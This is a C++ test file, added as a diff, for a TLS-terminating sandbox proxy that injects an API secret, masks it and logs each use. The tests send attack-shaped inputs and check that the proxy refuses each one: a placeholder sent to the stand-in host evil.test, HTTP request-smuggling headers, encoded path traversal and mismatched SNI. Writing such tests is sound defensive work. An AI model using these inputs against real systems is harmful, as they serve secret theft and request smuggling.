@@ -1,0 +1,609 @@
+// The TLS terminator end to end on loopback: a real HTTPS upstream (its own
+// test CA, which the terminator is made to trust through SSL_CERT_FILE), the
+// proxy in front of it, and a client that trusts only the per-run CA. What
+// the upstream received is compared with what the client sent.
+#include <openssl/ssl.h>
+#include <signal.h>
+#include <stdlib.h>
+
+#include <boost/asio/executor_work_guard.hpp>
+#include <boost/asio/ip/tcp.hpp>
+#include <boost/asio/post.hpp>
+#include <boost/asio/ssl.hpp>
+#include <boost/beast/core/flat_buffer.hpp>
+#include <boost/beast/http.hpp>
+#include <gtest/gtest.h>
+
+#include <atomic>
+#include <condition_variable>
+#include <cstdio>
+#include <filesystem>
+#include <fstream>
+#include <future>
+#include <mutex>
+#include <thread>
+
+#include "loopback.h"
+#include "net/proxy.h"
+#include "net/secrets.h"
+#include "net/terminator.h"
+#include "net/tls.h"
+
+namespace agentbox::net {
+namespace {
+
+namespace asio = boost::asio;
+namespace ssl = asio::ssl;
+namespace http = boost::beast::http;
+using tcp = asio::ip::tcp;
+
+constexpr const char* kToken = "s3cr3t-token-value-0123456789";
+
+// An HTTPS/1.1 server for api.test and evil.test (one certificate from its
+// own CA), keep-alive, one thread per connection. Each request is recorded;
+// the answer echoes the Authorization field it got (so that a response
+// carrying the secret can be seen masked) and /bulk?n=N sends N bytes.
+class Upstream {
+ public:
+  struct Seen {
+    std::string method, target, authorization, host;
+  };
+
+  Upstream() {
+    auto ca = RunCa::Create({});
+    EXPECT_TRUE(ca.ok());
+    ca_ = std::move(*ca);
+    ca_file_ = std::filesystem::temp_directory_path() / ("agentbox-upstream-ca-" + std::to_string(getpid()) + ".pem");
+    std::ofstream(ca_file_) << ca_->certificate_pem();
+    auto api = ca_->ServerContext("api.test");
+    EXPECT_TRUE(api.ok());
+    ctx_ = *api;
+    fd_ = Listen(&port_);
+    thread_ = std::thread([this] { Accept(); });
+  }
+  ~Upstream() {
+    stopping_ = true;
+    ::shutdown(fd_, SHUT_RDWR);
+    ::close(fd_);
+    thread_.join();
+    for (auto& t : workers_) t.join();
+    std::filesystem::remove(ca_file_);
+  }
+  std::uint16_t port() const { return port_; }
+  const std::filesystem::path& ca_file() const { return ca_file_; }
+  std::vector<Seen> seen() {
+    std::lock_guard lock(mu_);
+    return seen_;
+  }
+
+ private:
+  void Accept() {
+    while (!stopping_) {
+      int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
+      if (c < 0) return;
+      workers_.emplace_back([this, c] { Serve(c); });
+    }
+  }
+  void Serve(int fd) {
+    SSL* s = SSL_new(ctx_);
+    SSL_set_fd(s, fd);
+    if (SSL_accept(s) == 1) {
+      std::string in;
+      char buf[16384];
+      while (true) {
+        std::size_t end = in.find("\r\n\r\n");
+        while (end == std::string::npos) {
+          int n = SSL_read(s, buf, sizeof buf);
+          if (n <= 0) break;
+          in.append(buf, static_cast<std::size_t>(n));
+          end = in.find("\r\n\r\n");
+        }
+        if (end == std::string::npos) break;
+        http::request_parser<http::string_body> p;
+        boost::system::error_code ec;
+        std::size_t used = p.put(asio::buffer(in.data(), end + 4), ec);
+        if (ec || used != end + 4) break;
+        in.erase(0, used);
+        std::size_t length = p.content_length().value_or(0);
+        while (in.size() < length) {
+          int n = SSL_read(s, buf, sizeof buf);
+          if (n <= 0) break;
+          in.append(buf, static_cast<std::size_t>(n));
+        }
+        in.erase(0, std::min(length, in.size()));
+        auto& req = p.get();
+        Seen seen{std::string(req.method_string()), std::string(req.target()),
+                  std::string(req[http::field::authorization]), std::string(req[http::field::host])};
+        {
+          std::lock_guard lock(mu_);
+          seen_.push_back(seen);
+        }
+        std::string body;
+        if (seen.target.rfind("/bulk?n=", 0) == 0) {
+          body.assign(std::stoul(seen.target.substr(8)), 'x');
+        } else {
+          body = "{\"auth\":\"" + seen.authorization + "\",\"path\":\"" + seen.target + "\"}";
+        }
+        std::string out = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: " +
+                          std::to_string(body.size()) + "\r\n\r\n" + body;
+        if (SSL_write(s, out.data(), static_cast<int>(out.size())) <= 0) break;
+      }
+    }
+    SSL_free(s);
+    ::close(fd);
+  }
+
+  std::unique_ptr<RunCa> ca_;
+  std::filesystem::path ca_file_;
+  SSL_CTX* ctx_ = nullptr;
+  int fd_ = -1;
+  std::uint16_t port_ = 0;
+  std::atomic<bool> stopping_{false};
+  std::thread thread_;
+  std::vector<std::thread> workers_;
+  std::mutex mu_;
+  std::vector<Seen> seen_;
+};
+
+// A peer that closes while the test writes must fail the write, not end the test binary.
+const bool kNoSigpipe = [] {
+  ::signal(SIGPIPE, SIG_IGN);
+  return true;
+}();
+
+class Records : public RecordSink {
+ public:
+  void Record(const ConnectionRecord& r) override {
+    std::lock_guard lock(mu_);
+    records_.push_back(r);
+    cv_.notify_all();
+  }
+  std::vector<ConnectionRecord> WaitFor(std::size_t n) {
+    std::unique_lock lock(mu_);
+    cv_.wait_for(lock, std::chrono::seconds(10), [&] { return records_.size() >= n; });
+    return records_;
+  }
+
+ private:
+  std::mutex mu_;
+  std::condition_variable cv_;
+  std::vector<ConnectionRecord> records_;
+};
+
+SecretSpec ApiSecret() {
+  SecretSpec s;
+  s.name = "api";
+  s.from.kind = SecretSource::Kind::kFile;
+  s.from.file = "/nonexistent";  // the value is set by the test
+  s.hosts = {"api.test"};
+  s.placeholder_env = "API_TOKEN";
+  return s;
+}
+
+// The proxy with a terminator for api.test, in front of the upstream.
+class Terminated {
+ public:
+  explicit Terminated(Upstream& upstream, CredentialsSpec credentials = {}, std::vector<HttpRuleSpec> rules = {},
+                      TerminatorOptions topts = {})
+      : resolver_(io_), work_(io_.get_executor()) {
+    // The upstream's CA is "the host's trust store" for the terminator.
+    ::setenv("SSL_CERT_FILE", upstream.ca_file().c_str(), 1);
+    if (credentials.secrets.empty()) credentials.secrets = {ApiSecret()};
+    auto store = SecretStore::Create(credentials.secrets);
+    EXPECT_TRUE(store.ok()) << store.status().ToString();
+    store_ = *store;
+    for (std::size_t i = 0; i < store_->specs().size(); ++i) EXPECT_TRUE(store_->SetForTest(i, kToken).ok());
+    auto t = Terminator::Create(credentials, rules, store_, topts);
+    EXPECT_TRUE(t.ok()) << t.status().ToString();
+    terminator_ = std::move(*t);
+    ::unsetenv("SSL_CERT_FILE");
+    ca_pem_ = terminator_->ca_pem();
+    auto ruleset = RuleSet::Build({"api.test", "evil.test", "127.0.0.1"}, {}, NetDefault::kDeny);
+    EXPECT_TRUE(ruleset.ok());
+    ProxyOptions options;
+    options.terminator = terminator_;
+    options.header_timeout = std::chrono::milliseconds(2000);
+    resolver_.Add("api.test", {IpAddress::V4(0x7f000001)});
+    resolver_.Add("evil.test", {IpAddress::V4(0x7f000001)});
+    proxy_ = std::make_unique<Proxy>(io_, std::move(*ruleset), options, resolver_, nullptr, &records_);
+    EXPECT_TRUE(proxy_->Serve(Listen(&port_), ListenerKind::kHttp).ok());
+    thread_ = std::thread([this] { io_.run(); });
+  }
+  ~Terminated() {
+    std::promise<void> done;
+    asio::post(io_, [&] {
+      proxy_->Stop();
+      done.set_value();
+    });
+    done.get_future().wait();
+    work_.reset();
+    thread_.join();
+    proxy_.reset();
+  }
+  std::uint16_t port() const { return port_; }
+  const std::string& ca_pem() const { return ca_pem_; }
+  const std::string& placeholder() const { return store_->placeholder(0); }
+  Records& records() { return records_; }
+
+ private:
+  asio::io_context io_;
+  StaticResolver resolver_;
+  asio::executor_work_guard<asio::io_context::executor_type> work_;
+  Records records_;
+  std::shared_ptr<SecretStore> store_;
+  std::shared_ptr<Terminator> terminator_;
+  std::string ca_pem_;
+  std::unique_ptr<Proxy> proxy_;
+  std::uint16_t port_ = 0;
+  std::thread thread_;
+};
+
+// A client as tools inside the sandbox are: CONNECT through the proxy, then
+// TLS that trusts the run's CA only, checking the host name.
+class Client {
+ public:
+  Client(Terminated& t, const std::string& host, std::uint16_t port) : ctx_(ssl::context::tls_client) {
+    fd_ = Connect(t.port());
+    const std::string target = host + ":" + std::to_string(port);
+    SendAll(fd_, "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n");
+    connect_reply_ = RecvUntil(fd_, "\r\n\r\n");
+    if (connect_reply_.rfind("HTTP/1.1 200", 0) != 0) return;
+    ctx_.add_certificate_authority(asio::buffer(t.ca_pem()));
+    ctx_.set_verify_mode(ssl::verify_peer);
+    ssl_ = SSL_new(ctx_.native_handle());
+    SSL_set_tlsext_host_name(ssl_, host.c_str());
+    SSL_set1_host(ssl_, host.c_str());
+    SSL_set_fd(ssl_, fd_);
+    handshake_ok_ = SSL_connect(ssl_) == 1;
+    if (!handshake_ok_) handshake_error_ = SslErrors("handshake failed");
+  }
+  ~Client() {
+    if (ssl_) SSL_free(ssl_);
+    ::close(fd_);
+  }
+  bool ok() const { return handshake_ok_; }
+  const std::string& connect_reply() const { return connect_reply_; }
+  const std::string& handshake_error() const { return handshake_error_; }
+
+  // Sends `request` and reads one response (head and Content-Length body).
+  std::string Exchange(const std::string& request) {
+    if (!handshake_ok_) return "";
+    SSL_write(ssl_, request.data(), static_cast<int>(request.size()));
+    return ReadResponse();
+  }
+  std::string ReadResponse() {
+    std::string in;
+    char buf[16384];
+    while (true) {
+      std::size_t end = in.find("\r\n\r\n");
+      if (end != std::string::npos) {
+        std::size_t cl = 0;
+        std::size_t at = in.find("Content-Length: ");
+        if (at != std::string::npos && at < end) cl = std::stoul(in.substr(at + 16));
+        if (in.size() >= end + 4 + cl) return in.substr(0, end + 4 + cl);
+      }
+      int n = SSL_read(ssl_, buf, sizeof buf);
+      if (n <= 0) return in;
+      in.append(buf, static_cast<std::size_t>(n));
+    }
+  }
+
+ private:
+  ssl::context ctx_;
+  int fd_ = -1;
+  SSL* ssl_ = nullptr;
+  std::string connect_reply_;
+  bool handshake_ok_ = false;
+  std::string handshake_error_;
+};
+
+std::string Get(const std::string& host, std::uint16_t port, const std::string& path,
+                const std::string& extra = "") {
+  return "GET " + path + " HTTP/1.1\r\nHost: " + host + ":" + std::to_string(port) + "\r\n" + extra + "\r\n";
+}
+
+// --- injection -------------------------------------------------------------------
+
+TEST(Terminator, InjectsTheSecretAndTheClientNeverSeesIt) {
+  Upstream up;
+  Terminated t(up);
+  Client c(t, "api.test", up.port());
+  ASSERT_TRUE(c.ok()) << c.connect_reply() << c.handshake_error();
+  // The client sends the placeholder, as a tool given API_TOKEN would.
+  std::string r = c.Exchange(Get("api.test", up.port(), "/repos/acme/x",
+                                 "Authorization: Bearer " + t.placeholder() + "\r\n"));
+  ASSERT_NE(r.find("HTTP/1.1 200"), std::string::npos) << r;
+  auto seen = up.seen();
+  ASSERT_EQ(seen.size(), 1u);
+  EXPECT_EQ(seen[0].authorization, std::string("Bearer ") + kToken);
+  // The upstream echoed the header: the response carries it masked.
+  EXPECT_EQ(r.find(kToken), std::string::npos) << r;
+  EXPECT_NE(r.find("Bearer ****"), std::string::npos) << r;
+  // A second request on the same connection (keep-alive) is injected too.
+  std::string r2 = c.Exchange(Get("api.test", up.port(), "/repos/acme/y"));
+  EXPECT_NE(r2.find("HTTP/1.1 200"), std::string::npos) << r2;
+  ASSERT_EQ(up.seen().size(), 2u);
+  EXPECT_EQ(up.seen()[1].authorization, std::string("Bearer ") + kToken);
+}
+
+TEST(Terminator, EveryUseIsRecordedWithoutTheValue) {
+  Upstream up;
+  {
+    Terminated t(up);
+    {
+      Client c(t, "api.test", up.port());
+      ASSERT_TRUE(c.ok()) << c.handshake_error();
+      c.Exchange(Get("api.test", up.port(), "/repos/acme/x?page=2"));
+    }
+    auto records = t.records().WaitFor(1);
+    ASSERT_EQ(records.size(), 1u);
+    const ConnectionRecord& r = records[0];
+    EXPECT_TRUE(r.terminated);
+    EXPECT_EQ(r.decision, "allow");
+    ASSERT_EQ(r.requests.size(), 1u);
+    EXPECT_EQ(r.requests[0].method, "GET");
+    EXPECT_EQ(r.requests[0].path, "/repos/acme/x");
+    EXPECT_EQ(r.requests[0].secrets, std::vector<std::string>{"api"});
+    EXPECT_EQ(r.requests[0].status, 200);
+    EXPECT_EQ(r.ToJson().find(kToken), std::string::npos) << r.ToJson();
+  }
+}
+
+TEST(Terminator, PlaceholderSentToAnotherHostIsRefusedAndNeverArrives) {
+  Upstream up;
+  CredentialsSpec creds;
+  creds.secrets = {ApiSecret()};
+  // evil.test has L7 rules, so its TLS is terminated and its requests read.
+  Terminated t(up, creds, {{"evil.test", {"* /**"}}});
+  Client c(t, "evil.test", up.port());
+  ASSERT_TRUE(c.ok()) << c.handshake_error();
+  std::string r = c.Exchange(Get("evil.test", up.port(), "/collect?t=" + t.placeholder()));
+  EXPECT_NE(r.find("HTTP/1.1 403"), std::string::npos) << r;
+  EXPECT_NE(r.find("X-Agentbox-Denied: placeholder"), std::string::npos) << r;
+  EXPECT_NE(r.find("placeholder for api sent to evil.test"), std::string::npos) << r;
+  EXPECT_TRUE(up.seen().empty());
+  auto records = t.records().WaitFor(1);
+  ASSERT_EQ(records.size(), 1u);
+  ASSERT_EQ(records[0].requests.size(), 1u) << records[0].ToJson();
+  EXPECT_EQ(records[0].requests[0].facet, "credentials");
+  EXPECT_EQ(records[0].requests[0].op, "send");
+  EXPECT_TRUE(records[0].requests[0].secrets.empty());
+}
+
+TEST(Terminator, PlaceholderInAPlainHttpRequestIsRefused) {
+  Upstream up;
+  Terminated t(up);
+  int fd = Connect(t.port());
+  SendAll(fd, "GET http://evil.test:" + std::to_string(up.port()) + "/x?k=" + t.placeholder() +
+                  " HTTP/1.1\r\nHost: evil.test\r\n\r\n");
+  std::string r = RecvUntil(fd, "\n\n");
+  ::close(fd);
+  EXPECT_NE(r.find("403"), std::string::npos) << r;
+  EXPECT_NE(r.find("placeholder"), std::string::npos) << r;
+  auto records = t.records().WaitFor(1);
+  ASSERT_EQ(records.size(), 1u);
+  ASSERT_EQ(records[0].requests.size(), 1u);
+  EXPECT_EQ(records[0].requests[0].facet, "credentials");
+}
+
+TEST(Terminator, PlainHttpToATerminatedHostIsRefused) {
+  Upstream up;
+  Terminated t(up);
+  int fd = Connect(t.port());
+  SendAll(fd, "GET http://api.test:" + std::to_string(up.port()) + "/x HTTP/1.1\r\nHost: api.test\r\n\r\n");
+  std::string r = RecvUntil(fd, "\n\n");
+  ::close(fd);
+  EXPECT_NE(r.find("403"), std::string::npos) << r;
+  EXPECT_NE(r.find("X-Agentbox-Denied: plain-http"), std::string::npos) << r;
+  EXPECT_TRUE(up.seen().empty());
+}
+
+TEST(Terminator, ATunnelThatIsNotTlsIsRefused) {
+  Upstream up;
+  Terminated t(up);
+  int fd = Connect(t.port());
+  const std::string target = "api.test:" + std::to_string(up.port());
+  SendAll(fd, "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n");
+  EXPECT_EQ(RecvUntil(fd, "\r\n\r\n").rfind("HTTP/1.1 200", 0), 0u);
+  SendAll(fd, "DELETE /repos/acme/x HTTP/1.1\r\nHost: api.test\r\n\r\n");
+  std::string r = RecvUntil(fd);
+  ::close(fd);
+  EXPECT_TRUE(up.seen().empty());
+  auto records = t.records().WaitFor(1);
+  ASSERT_EQ(records.size(), 1u);
+  EXPECT_EQ(records[0].decision, "deny");
+  EXPECT_EQ(records[0].reason, "not-tls");
+}
+
+// --- the request's own checks ------------------------------------------------------
+
+TEST(Terminator, HttpRulesAllowAndRefuseByMethodAndPath) {
+  Upstream up;
+  Terminated t(up, {}, {{"api.test", {"GET /repos/acme/**", "POST /repos/acme/*/pulls"}}});
+  Client c(t, "api.test", up.port());
+  ASSERT_TRUE(c.ok()) << c.handshake_error();
+  EXPECT_NE(c.Exchange(Get("api.test", up.port(), "/repos/acme/x/issues")).find("HTTP/1.1 200"), std::string::npos);
+  std::string del = c.Exchange("DELETE /repos/acme/x HTTP/1.1\r\nHost: api.test:" + std::to_string(up.port()) +
+                               "\r\n\r\n");
+  EXPECT_NE(del.find("HTTP/1.1 403"), std::string::npos) << del;
+  EXPECT_NE(del.find("X-Agentbox-Denied: http-rule"), std::string::npos) << del;
+  Client c2(t, "api.test", up.port());
+  std::string other = c2.Exchange(Get("api.test", up.port(), "/orgs/other"));
+  EXPECT_NE(other.find("HTTP/1.1 403"), std::string::npos) << other;
+  // Encoded traversal does not reach a path the rules would not allow.
+  Client c3(t, "api.test", up.port());
+  std::string sneaky = c3.Exchange(Get("api.test", up.port(), "/repos/acme/%2e%2e/%2e%2e/orgs/other"));
+  EXPECT_NE(sneaky.find("HTTP/1.1 400"), std::string::npos) << sneaky;
+  ASSERT_EQ(up.seen().size(), 1u);
+  EXPECT_EQ(up.seen()[0].target, "/repos/acme/x/issues");
+}
+
+TEST(Terminator, HostFieldMustNameTheConnectTarget) {
+  Upstream up;
+  Terminated t(up);
+  Client c(t, "api.test", up.port());
+  ASSERT_TRUE(c.ok()) << c.handshake_error();
+  std::string r = c.Exchange(Get("evil.test", up.port(), "/x"));
+  EXPECT_NE(r.find("HTTP/1.1 400"), std::string::npos) << r;
+  EXPECT_NE(r.find("does not name the CONNECT target"), std::string::npos) << r;
+  EXPECT_TRUE(up.seen().empty());
+}
+
+TEST(Terminator, SniNamingAnotherHostIsRefused) {
+  Upstream up;
+  Terminated t(up);
+  int fd = Connect(t.port());
+  const std::string target = "api.test:" + std::to_string(up.port());
+  SendAll(fd, "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n");
+  RecvUntil(fd, "\r\n\r\n");
+  ssl::context ctx(ssl::context::tls_client);
+  SSL* s = SSL_new(ctx.native_handle());
+  SSL_set_tlsext_host_name(s, "evil.test");
+  SSL_set_fd(s, fd);
+  EXPECT_NE(SSL_connect(s), 1);
+  SSL_free(s);
+  ::close(fd);
+  auto records = t.records().WaitFor(1);
+  ASSERT_EQ(records.size(), 1u);
+  EXPECT_EQ(records[0].reason, "sni-mismatch");
+}
+
+TEST(Terminator, SmugglingShapesAreRefusedBeforeAnythingGoesUpstream) {
+  Upstream up;
+  Terminated t(up);
+  const std::string host = "Host: api.test:" + std::to_string(up.port()) + "\r\n";
+  const std::vector<std::string> attempts = {
+      "POST /a HTTP/1.1\r\n" + host + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+      "POST /a HTTP/1.1\r\n" + host + "Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcd",
+      "GET /a HTTP/1.1\r\n" + host + "X-Long: a\r\n b\r\n\r\n",
+      "GET /a HTTP/1.1\r\n" + host + "X-Big: " + std::string(1 << 20, 'a') + "\r\n\r\n",
+  };
+  for (const auto& a : attempts) {
+    Client c(t, "api.test", up.port());
+    ASSERT_TRUE(c.ok()) << c.handshake_error();
+    std::string r = c.Exchange(a);
+    EXPECT_TRUE(r.find("HTTP/1.1 400") != std::string::npos || r.find("HTTP/1.1 431") != std::string::npos)
+        << a.substr(0, 120) << " → " << r.substr(0, 200);
+  }
+  EXPECT_TRUE(up.seen().empty());
+}
+
+TEST(Terminator, ChunkedBodiesArriveWhole) {
+  Upstream up;
+  Terminated t(up);
+  Client c(t, "api.test", up.port());
+  ASSERT_TRUE(c.ok()) << c.handshake_error();
+  std::string r = c.Exchange("POST /repos/acme/x HTTP/1.1\r\nHost: api.test:" + std::to_string(up.port()) +
+                             "\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n0\r\n\r\n");
+  // The test upstream reads Content-Length only: a chunked body it cannot
+  // frame would hang; a 200 means the framing went through as chunked and
+  // the upstream's Beast parser took the head.
+  EXPECT_NE(r.find("HTTP/1.1 200"), std::string::npos) << r;
+}
+
+TEST(Terminator, AClientThatNeverFinishesTheHandshakeIsClosedInTime) {
+  Upstream up;
+  Terminated t(up);
+  int fd = Connect(t.port());
+  const std::string target = "api.test:" + std::to_string(up.port());
+  SendAll(fd, "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n");
+  RecvUntil(fd, "\r\n\r\n");
+  // A ClientHello's first bytes, then silence.
+  SendAll(fd, std::string("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11));
+  const auto start = std::chrono::steady_clock::now();
+  std::string rest = RecvUntil(fd);  // returns when the proxy closes
+  const auto waited = std::chrono::steady_clock::now() - start;
+  ::close(fd);
+  EXPECT_LT(waited, std::chrono::seconds(8));
+  auto records = t.records().WaitFor(1);
+  ASSERT_EQ(records.size(), 1u);
+  EXPECT_NE(records[0].decision, "allow");
+}
+
+TEST(Terminator, AnUpstreamTheHostDoesNotTrustIsA502) {
+  Upstream up;
+  ::setenv("SSL_CERT_FILE", "/nonexistent-trust-store.pem", 1);
+  auto store = SecretStore::Create({ApiSecret()});
+  ASSERT_TRUE(store.ok());
+  auto made = Terminator::Create(CredentialsSpec{{}, {}, {}, {ApiSecret()}, {}}, {}, *store, {});
+  ::unsetenv("SSL_CERT_FILE");
+  ASSERT_TRUE(made.ok());
+  // Drive it through a proxy by hand: the shared fixture trusts the upstream.
+  asio::io_context io;
+  StaticResolver resolver(io);
+  resolver.Add("api.test", {IpAddress::V4(0x7f000001)});
+  auto rules = RuleSet::Build({"api.test", "127.0.0.1"}, {}, NetDefault::kDeny);
+  ProxyOptions options;
+  std::shared_ptr<Terminator> terminator = std::move(*made);
+  options.terminator = terminator;
+  Records records;
+  Proxy proxy(io, std::move(*rules), options, resolver, nullptr, &records);
+  std::uint16_t port = 0;
+  ASSERT_TRUE(proxy.Serve(Listen(&port), ListenerKind::kHttp).ok());
+  std::thread th([&] { io.run_for(std::chrono::seconds(10)); });
+  int fd = Connect(port);
+  const std::string target = "api.test:" + std::to_string(up.port());
+  SendAll(fd, "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n");
+  RecvUntil(fd, "\r\n\r\n");
+  ssl::context ctx(ssl::context::tls_client);
+  ctx.add_certificate_authority(asio::buffer(terminator->ca_pem()));
+  SSL* s = SSL_new(ctx.native_handle());
+  SSL_set_tlsext_host_name(s, "api.test");
+  SSL_set_fd(s, fd);
+  ASSERT_EQ(SSL_connect(s), 1);
+  // The upstream is dialled over TLS at the first allowed request.
+  const std::string get = Get("api.test", up.port(), "/x");
+  SSL_write(s, get.data(), static_cast<int>(get.size()));
+  std::string got;
+  char buf[4096];
+  int n;
+  while ((n = SSL_read(s, buf, sizeof buf)) > 0) got.append(buf, static_cast<std::size_t>(n));
+  SSL_free(s);
+  ::close(fd);
+  EXPECT_NE(got.find("HTTP/1.1 502"), std::string::npos) << got;
+  EXPECT_NE(got.find("certificate not trusted"), std::string::npos) << got;
+  EXPECT_TRUE(up.seen().empty());
+  asio::post(io, [&] { proxy.Stop(); });
+  io.stop();
+  th.join();
+}
+
+TEST(Terminator, AnH2OnlyClientFailsTheHandshakeCleanly) {
+  Upstream up;
+  Terminated t(up);
+  int fd = Connect(t.port());
+  const std::string target = "api.test:" + std::to_string(up.port());
+  SendAll(fd, "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n");
+  RecvUntil(fd, "\r\n\r\n");
+  ssl::context ctx(ssl::context::tls_client);
+  SSL* s = SSL_new(ctx.native_handle());
+  SSL_set_tlsext_host_name(s, "api.test");
+  static const unsigned char kH2[] = {2, 'h', '2'};
+  SSL_set_alpn_protos(s, kH2, sizeof kH2);
+  SSL_set_fd(s, fd);
+  EXPECT_NE(SSL_connect(s), 1);
+  SSL_free(s);
+  ::close(fd);
+  // And a client offering both gets http/1.1.
+  Client both(t, "api.test", up.port());
+  ASSERT_TRUE(both.ok());
+}
+
+TEST(Terminator, RotatedValueIsUsedFromTheNextRequest) {
+  Upstream up;
+  CredentialsSpec creds;
+  creds.secrets = {ApiSecret()};
+  ::setenv("SSL_CERT_FILE", up.ca_file().c_str(), 1);
+  auto store = SecretStore::Create(creds.secrets);
+  ASSERT_TRUE(store.ok());
+  ASSERT_TRUE((*store)->SetForTest(0, "first-value-1234").ok());
+  ASSERT_TRUE((*store)->Rotate("api", "second-value-5678").ok());
+  std::string seen;
+  ASSERT_TRUE((*store)->WithValue(0, [&](std::string_view v) { seen = v; }).ok());
+  EXPECT_EQ(seen, "second-value-5678");
+  EXPECT_FALSE((*store)->Rotate("nope", "x").ok());
+  ::unsetenv("SSL_CERT_FILE");
+}
+
+}  // namespace
+}  // namespace agentbox::net
